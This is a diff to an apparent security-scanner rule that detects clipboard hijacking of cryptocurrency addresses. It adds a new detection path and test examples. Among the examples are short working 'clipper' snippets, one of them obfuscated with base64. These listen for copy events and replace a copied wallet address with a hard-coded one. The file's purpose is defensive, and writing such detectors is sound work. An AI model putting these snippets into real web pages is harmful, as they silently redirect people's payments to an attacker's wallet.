@@ -58,6 +58,9 @@ export const clipboardSwapped = defineRule({
         'const KINDS = [{ n: "a", re: /\\bbc1[a-z0-9]{25,59}\\b/g }, { n: "b", re: /\\b0x[a-fA-F0-9]{40}\\b/g }]; document.addEventListener("copy", (e) => { let t = getSelection().toString(); for (const k of KINDS) t = t.replace(k.re, () => TO[k.n]); e.clipboardData.setData("text/plain", t); e.preventDefault(); });',
       ),
       contentExample(
+        'const forms = { e: "XjB4W2EtZkEtRjAtOV17NDB9JA==" }; const pool = { e: ["0x52908400098527886E0F7030069857D2E4169EE7"] }; const kindOf = (s) => Object.keys(forms).find((k) => new RegExp(atob(forms[k])).test(s)); document.addEventListener("copy", (e) => { const k = kindOf(getSelection().toString()); if (k) { e.clipboardData.setData("text/plain", pool[k][0]); e.preventDefault(); } });',
+      ),
+      contentExample(
         'const mine = "0x52908400098527886E0F7030069857D2E4169EE7"; document.addEventListener("copy", (e) => { const t = getSelection().toString(); if (/^0x[a-fA-F0-9]{40}$/.test(t)) { e.clipboardData.setData("text/plain", mine); e.preventDefault(); } });',
       ),
       {
@@ -85,6 +88,9 @@ export const clipboardSwapped = defineRule({
         'const token = "0x52908400098527886E0F7030069857D2E4169EE7"; const isAddress = (s) => /^0x[a-fA-F0-9]{40}$/.test(s); const copy = document.createElement("button"); copy.onclick = () => navigator.clipboard.writeText(account.address); const paste = document.createElement("button"); paste.onclick = async () => { const t = await navigator.clipboard.readText(); if (isAddress(t)) to.value = t; };',
       ),
       contentExample('const valid = /^0x[a-fA-F0-9]{40}$/.test(input.value); show(valid);'),
+      contentExample(
+        'const donate = "0x52908400098527886E0F7030069857D2E4169EE7"; copy.onclick = () => navigator.clipboard.writeText(donate); document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", getSelection().toString().trim()); e.preventDefault(); });',
+      ),
       contentExample('copy.onclick = () => navigator.clipboard.writeText("npm install example");'),
       contentExample(
         'document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", getSelection().toString().trim()); e.preventDefault(); });',
@@ -113,7 +119,12 @@ const within = checkScripts(function* ({ script, file, facts, hit }) {
   const addresses = addressPatterns(script);
   const [first] = addresses;
   const own = ownAddresses(script);
-  if (first === undefined) {
+  const puts = ({ value }: Text): boolean =>
+    unasked.some((one) => isTaken(script, posOf(script, one.value)) && backwardSlice(script, one.content).has(value));
+  // How it tells addresses may be hidden: that its own takes the place of what was copied says enough.
+  const put = first === undefined ? own.find(puts) : undefined;
+  if (put !== undefined) yield hit(write.value, { message: say('clipboard-wallet-put', put.text.slice(0, 60)) });
+  else if (first === undefined) {
     const table = readsClipboard(script) ? facts.whole(exchangeTable) : undefined;
     if (table !== undefined) yield hit(write.value, { message: say('clipboard-wallet-replaced', table.slice(0, 60)) });
   } else if (own.some(({ value }) => unasked.some(({ content }) => isMadeOf(script, content, value))))
@@ -130,9 +141,14 @@ const within = checkScripts(function* ({ script, file, facts, hit }) {
 
 /** Whether a script takes what is copied: from the clipboard, or what is marked when it is copied. */
 const readsClipboard = (script: ScriptFacts): boolean =>
+  isPasted(script) || callsNamed(script, 'getSelection', 'getData').length > 0;
+
+const isPasted = (script: ScriptFacts): boolean =>
   callsOf(script, 'navigator.clipboard.readText').length > 0 ||
-  callsNamed(script, 'getSelection', 'getData').length > 0 ||
   callsOf(script, 'document.execCommand').some((call) => constant(script, call.args[0] ?? 0) === 'paste');
+
+/** Whether a place writes to the clipboard after it was read, or in a listener for what the person copies. */
+const isTaken = (script: ScriptFacts, pos: number): boolean => isPasted(script) || isInCopied(script, pos);
 
 /** Addresses of wallets that stand in a script. */
 const ownAddresses = (script: ScriptFacts): readonly Text[] =>
@@ -172,12 +188,17 @@ function replaced({ source, sink, unit: { script }, pos }: Flow): Weight | undef
   if (sink.kind !== 'clipboard-write' || source.kind !== 'remote-data') return undefined;
   // A script that presses copy itself puts its own text there.
   if (callsOf(script, 'document.execCommand').length > 0) return undefined;
-  const isCopied = listenersOf(script, 'copy', 'cut').some(({ fn }) => {
+  return isInCopied(script, pos)
+    ? { severity: 'critical', confidence: 'high', message: say('server-replaces-copied') }
+    : undefined;
+}
+
+/** Whether a place stands in a listener for what the person copies. */
+const isInCopied = (script: ScriptFacts, pos: number): boolean =>
+  listenersOf(script, 'copy', 'cut').some(({ fn }) => {
     const { start = 0, end = 0 } = script.functions[fn] ?? {};
     return pos >= start && pos < end;
   });
-  return isCopied ? { severity: 'critical', confidence: 'high', message: say('server-replaces-copied') } : undefined;
-}
 
 function clipboardWrites(script: ScriptFacts): { value: number; content: number }[] {
   const out = callsOf(script, 'navigator.clipboard.writeText').map((call) => ({
